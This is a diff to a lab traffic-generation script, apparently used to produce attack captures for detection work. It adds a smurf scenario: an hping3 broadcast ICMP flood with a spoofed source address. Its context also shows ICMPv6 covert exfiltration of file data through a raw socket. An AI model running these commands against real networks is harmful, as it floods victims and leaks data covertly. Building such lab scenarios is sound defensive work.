@@ -83,6 +83,10 @@
 #   exfil_icmp6_data    a file sent in ICMPv6 echo requests, 400 random bytes each, 60 of them
 #                       0.2 s apart, to an inside server (a raw socket from Python: nping -6
 #                       cannot open its capture in the lab)
+#   smurf_broadcast     a smurf attack: hping3 sends 300 echo requests to the user LAN's broadcast
+#                       address with the source forged to 10.77.0.11, whose neighbours (answering
+#                       broadcast echo for the run) all reply to it; 10.77.0.11 and the attacker
+#                       each ping a server before, so both hardware addresses are known
 set -uo pipefail
 sc=$1 out=$2
 here=$(cd "$(dirname "$0")" && pwd)
@@ -310,6 +314,12 @@ for i in range(60):
     s.sendto(struct.pack("!BBHHH", 128, 0, 0, 0x5151, i + 1) + d[i * 400:(i + 1) * 400], ("fd78::28", 0))
     time.sleep(0.2)
 ' ;;
+  smurf_broadcast)
+    for n in ih_ws2 ih_mon ih_rtr; do x $n sysctl -qw net.ipv4.icmp_echo_ignore_broadcasts=0; done
+    x ih_ws2 timeout 10 ping -n -c 3 -i 0.5 10.78.0.40 >/dev/null 2>&1
+    x ih_atk timeout 10 ping -n -c 3 -i 0.5 10.78.0.50 >/dev/null 2>&1
+    x ih_atk timeout 20 hping3 -1 -q -a 10.77.0.11 -c 300 -i u10000 10.77.0.255 >/dev/null 2>&1
+    for n in ih_ws2 ih_mon ih_rtr; do x $n sysctl -qw net.ipv4.icmp_echo_ignore_broadcasts=1; done ;;
   *) echo "unknown scenario $sc" >&2; kill "$cap"; exit 2 ;;
 esac
 sleep 2
